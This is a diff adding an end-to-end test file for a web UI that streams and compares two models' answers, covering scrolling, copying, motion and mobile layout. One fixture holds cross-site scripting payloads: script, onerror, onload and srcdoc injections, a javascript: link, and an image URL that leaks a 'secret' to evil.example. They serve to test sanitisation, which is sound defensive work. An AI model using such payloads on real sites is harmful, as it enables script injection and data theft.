@@ -1,0 +1,135 @@
+import { type Echo, startEcho } from './start-echo';
+import { usePage } from './use-page';
+
+const LINES = Array.from({ length: 260 }, (_, n) => `line${n}\n\n`).join('');
+
+/** Fits into a pane, so that nothing has to scroll. */
+const FITTING = LINES.slice(0, 90);
+
+const HOSTILE = `Look: <script>document.title = 'owned'</script>
+<img src=x onerror="document.title = 'owned'"> <svg onload="document.title = 'owned'"></svg>
+
+<iframe srcdoc="<script>parent.document.title = 'owned'</script>"></iframe>
+
+<style>body { display: none }</style>
+
+![pixel](https://evil.example/?q=secret)
+
+[click](javascript:document.title='owned') and [fine](https://example.org/)
+
+\`\`\`html
+<img src=x onerror="document.title = 'owned'">
+\`\`\`
+`;
+
+describe('reading answers', () => {
+  let echo: Echo;
+  const { open } = usePage(async () => {
+    echo = await startEcho({ tokensPerSecond: 150 });
+    return {
+      BASELINE_MODELS: JSON.stringify([{ name: 'Echo', endpoint: echo.endpoint }]),
+      TWODELTA_MODELS: JSON.stringify([{ name: 'Other echo', endpoint: echo.endpoint }]),
+    };
+  });
+  afterAll(() => echo.close());
+
+  it('follows the end, lets go when the reader scrolls up, and holds again on request', async () => {
+    const compare = await open();
+    const { page, scroller } = compare;
+    const untilAtEnd = async (): Promise<void> => {
+      const box = await scroller.elementHandle();
+      await page.waitForFunction((it) => it && it.scrollHeight - it.clientHeight - it.scrollTop < 64, box, { timeout: 2_000 });
+    };
+    await compare.ask(LINES);
+    await compare.baseline.untilLonger(400);
+    await untilAtEnd();
+    await scroller.hover();
+    await page.mouse.wheel(0, -300);
+    await page.waitForTimeout(100);
+    const top = await scroller.evaluate((box) => box.scrollTop);
+    await compare.baseline.untilLonger((await compare.baseline.text()).length + 100);
+    expect(await scroller.evaluate((box) => box.scrollTop)).toBeCloseTo(top, -1);
+    await page.getByRole('button', { name: /New output/ }).click();
+    await untilAtEnd();
+    await page.getByRole('button', { name: 'Stop all' }).click();
+    await compare.ask('short');
+    await compare.untilIdle();
+    await untilAtEnd();
+  });
+
+  it('does nothing that the text says', async () => {
+    const compare = await open();
+    await compare.ask(HOSTILE);
+    await compare.untilIdle();
+    const { page, derived } = compare;
+    expect(await page.title()).not.toContain('owned');
+    expect(await derived.answer.locator('script, img, svg, iframe, style').count()).toBe(0);
+    expect(await derived.text()).toContain('<script>');
+    expect(await derived.answer.locator('a').evaluateAll((links) => links.map((link) => [link.textContent, (link as HTMLAnchorElement).href, link.getAttribute('rel')]))).toEqual([
+      ['image: pixel', 'https://evil.example/?q=secret', 'noopener noreferrer'],
+      ['fine', 'https://example.org/', 'noopener noreferrer'],
+    ]);
+  });
+
+  it('shows code in its colours, to be copied', async () => {
+    const compare = await open({ permissions: ['clipboard-read', 'clipboard-write'] });
+    await compare.ask('```js\nconst answer = 42;\n```');
+    await compare.untilIdle();
+    await compare.derived.answer.locator('.hljs-keyword', { hasText: 'const' }).waitFor();
+    await compare.derived.answer.getByRole('button', { name: 'Copy code' }).click();
+    expect(await compare.page.evaluate(() => navigator.clipboard.readText())).toBe('const answer = 42;');
+  });
+
+  it('copies an answer as the model wrote it', async () => {
+    const compare = await open({ permissions: ['clipboard-read', 'clipboard-write'] });
+    await compare.ask('**bold** and `code` 🦙');
+    await compare.untilIdle();
+    await compare.baseline.button('Copy').click();
+    await compare.page.getByText('Answer copied').first().waitFor({ state: 'attached' });
+    expect(await compare.page.evaluate(() => navigator.clipboard.readText())).toBe('**bold** and `code` 🦙');
+  });
+
+  it.each([
+    ['no-preference', 'blink'],
+    ['reduce', 'none'],
+  ] as const)('lets the cursor blink under prefers-reduced-motion: %s as %s', async (reducedMotion, animation) => {
+    const compare = await open({ reducedMotion });
+    await compare.ask(LINES);
+    const cursor = compare.baseline.region.locator('.cursor');
+    await cursor.waitFor();
+    expect(await cursor.evaluate((element) => getComputedStyle(element).animationName.replace(/^.*(blink).*$/, '$1'))).toBe(animation);
+  });
+
+  it('moves nothing while it streams', async () => {
+    const compare = await open();
+    const { page } = compare;
+    await compare.composer.fill(FITTING);
+    await page.evaluate(() => {
+      const seen = { shift: 0 };
+      Object.assign(window, { seen });
+      new PerformanceObserver((list) => {
+        for (const entry of list.getEntries() as (PerformanceEntry & { value: number; hadRecentInput: boolean })[]) {
+          if (!entry.hadRecentInput) seen.shift += entry.value;
+        }
+      }).observe({ type: 'layout-shift', buffered: false });
+    });
+    await page.getByRole('button', { name: 'Send' }).click();
+    await compare.baseline.untilLonger();
+    await compare.untilIdle();
+    expect(await page.evaluate(() => (window as unknown as { seen: { shift: number } }).seen.shift)).toBeLessThan(0.01);
+  });
+
+  it('shows one side at a time on a phone, with the other a swipe or a tab away', async () => {
+    const compare = await open({ viewport: { width: 360, height: 740 }, hasTouch: true, isMobile: true });
+    const { page, baseline, derived } = compare;
+    await compare.ask('one two three');
+    await compare.untilIdle();
+    expect([await baseline.region.isVisible(), await derived.region.isVisible()]).toEqual([true, false]);
+    await page.getByRole('tab', { name: /Two Delta/ }).click();
+    await derived.region.waitFor();
+    expect(await baseline.region.isVisible()).toBe(false);
+    await page.keyboard.press('ArrowLeft');
+    await baseline.region.waitFor();
+    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(360);
+  });
+});
